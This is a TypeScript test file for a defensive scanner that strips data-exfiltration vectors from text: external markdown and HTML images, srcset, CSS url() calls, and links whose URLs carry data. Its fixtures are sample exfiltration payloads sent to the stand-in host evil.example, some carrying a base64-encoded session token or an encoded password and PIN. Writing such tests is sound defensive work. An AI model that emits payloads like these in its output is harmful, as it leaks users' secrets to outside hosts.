import { describe, expect, it } from 'vitest';
import { carriesData, compileHostAllowlist, isHostAllowed, parseExternalUrl } from '../../src/scan/exfil-url.js';
import { defangExfiltration } from '../../src/scan/exfiltration.js';

const allow = compileHostAllowlist(['img.trusted.example', '*.cdn.example']);
const b64 = Buffer.from('session token and the last ten messages').toString('base64');
const defang = (text: string) => defangExfiltration(text, allow);

describe('defangExfiltration: external images go whatever their URL', () => {
  it.each([
    ['markdown image with ?d=<base64>', `![chart](https://evil.example/p.png?d=${b64})`, 'chart [image removed: host evil.example]', 'markdown-image'],
    ['markdown image, data in the path', `![](https://evil.example/${b64}/p.png)`, '[image removed: host evil.example]', 'markdown-image'],
    ['markdown image, plain URL', '![logo](https://evil.example/logo.png "Logo")', 'logo [image removed: host evil.example]', 'markdown-image'],
    ['markdown image in <brackets> with a space', '![a](<https://evil.example/a b.png>)', 'a [image removed: host evil.example]', 'markdown-image'],
    ['markdown image with parentheses in the URL', '![a](https://evil.example/a_(b).png)', 'a [image removed: host evil.example]', 'markdown-image'],
    ['protocol-relative image', '![a](//evil.example/a.png)', 'a [image removed: host evil.example]', 'markdown-image'],
    ['HTML img', '<img src="https://evil.example/i.png" alt="diagram">', 'diagram [image removed: host evil.example]', 'html-image'],
    ['HTML img, unquoted, upper case', '<IMG SRC=https://evil.example/i.png>', '[image removed: host evil.example]', 'html-image'],
    ['srcset', '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">', '[image removed: host evil.example]', 'srcset'],
    ['picture source', '<picture><source srcset="https://evil.example/s.webp"></picture>', '<picture>[image removed: host evil.example]</picture>', 'srcset'],
    ['video poster', '<video poster="https://evil.example/p.jpg"></video>', '[image removed: host evil.example]</video>', 'html-resource'],
    ['CSS url() in a style attribute', `<div style="background:url('https://evil.example/bg.png')">x</div>`, '<div style="background:none/*[image removed: host evil.example]*/">x</div>', 'css-url'],
    ['CSS url() in a style element', '<style>.a{background:url(//evil.example/c.png)}</style>', '<style>.a{background:none/*[image removed: host evil.example]*/}</style>', 'css-url'],
  ])('%s', (_name, input, expected, kind) => {
    const r = defang(`before ${input} after`);
    expect(r.text).toBe(`before ${expected} after`);
    expect(r.counts).toEqual({ [kind]: 1 });
  });

  it('removes the definition of a reference-style image, keeping the text readable', () => {
    const r = defang(`Look: ![pixel][p1] and ![Shortcut]\n\n[p1]: https://evil.example/${b64}/t.gif\n[shortcut]: <https://evil.example/s.gif> "t"\n[docs]: https://docs.example/guide`);
    expect(r.text).toBe('Look: ![pixel][p1] and ![Shortcut]\n\n[image removed: host evil.example]\n[image removed: host evil.example] "t"\n[docs]: https://docs.example/guide');
    expect(r.counts).toEqual({ 'reference-image': 2 });
  });

  it('keeps images on allowlisted hosts (exact and *.suffix), not the bare suffix', () => {
    const text = '![a](https://img.trusted.example/a.png) ![b](https://x.cdn.example/b.png) <img src="https://y.cdn.example/c.png">';
    expect(defang(text)).toEqual({ text, counts: {} });
    expect(defang('![c](https://cdn.example/c.png)').text).toBe('c [image removed: host cdn.example]');
    expect(defang('![c](https://img.trusted.example.evil.example/c.png)').text).toBe('c [image removed: host img.trusted.example.evil.example]');
  });

  it('keeps relative and data: images, which send nothing to an outside host', () => {
    const text = '![a](/img/a.png) <img src="logo.png"> ![b](data:image/png;base64,iVBORw0KGgo=)';
    expect(defang(text)).toEqual({ text, counts: {} });
  });
});

describe('defangExfiltration: links are defanged only when they carry data', () => {
  it.each([
    ['markdown link with base64 query', `[report](https://evil.example/c?data=${b64})`, 'report [link removed: host evil.example]'],
    ['bare URL with a query and no path', `https://evil.example?d=${b64}`, '[link removed: host evil.example]'],
    ['bare URL with many parameters', 'https://evil.example/a?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8', '[link removed: host evil.example]'],
    ['autolink with percent-encoded text', `<https://evil.example/?q=${encodeURIComponent('my password is hunter2 and my bank pin is 1234, thanks a lot')}>`, '<[link removed: host evil.example]>'],
    ['HTML anchor with data in the path', `<a href="https://evil.example/${b64}">click</a>`, '[link removed: host evil.example] click</a>'],
    ['link reference definition with data', `[r]: https://evil.example/x?d=${b64}`, '[link removed: host evil.example]'],
  ])('%s', (_name, input, expected) => {
    const r = defang(input);
    expect(r.text).toBe(expected);
    expect(r.counts).toEqual({ link: 1 });
  });

  it.each([
    ['a docs link', '[guide](https://docs.example/guide/getting-started#install)'],
    ['a commit link', 'https://github.com/org/repo/commit/3f786850e387550fdab836ed7e6dc881de23001b'],
    ['a UUID path', 'https://api.example/v1/items/123e4567-e89b-12d3-a456-426614174000'],
    ['a search with a few words', 'https://www.google.com/search?q=mcp+firewall&hl=en'],
    ['an anchor to a page', '<a href="https://example.com/blog/2024/10/a-long-article-title-about-things">read</a>'],
    ['text without URLs', 'no links here, just // comments'],
  ])('keeps %s', (_name, text) => {
    expect(defang(text)).toEqual({ text, counts: {} });
  });
});

describe('exfil-url helpers', () => {
  it('matches hosts exactly or by *.suffix', () => {
    const a = compileHostAllowlist(['a.example', '*.b.example']);
    expect([isHostAllowed('a.example', a), isHostAllowed('x.a.example', a), isHostAllowed('x.b.example', a), isHostAllowed('b.example', a)]).toEqual([true, false, true, false]);
  });
  it('refuses URLs it cannot parse, and judges data by path and query', () => {
    expect(parseExternalUrl('https://[bad')).toBeUndefined();
    expect(carriesData(new URL(`https://x.example/p?d=${b64}`))).toBe(true);
    expect(carriesData(new URL('https://x.example/p?page=2'))).toBe(false);
  });
  it('defangs an unparseable external image and names no host', () => {
    expect(defang('![a](https://[bad/x.png)').text).toBe('a [image removed: host unknown]');
  });
});
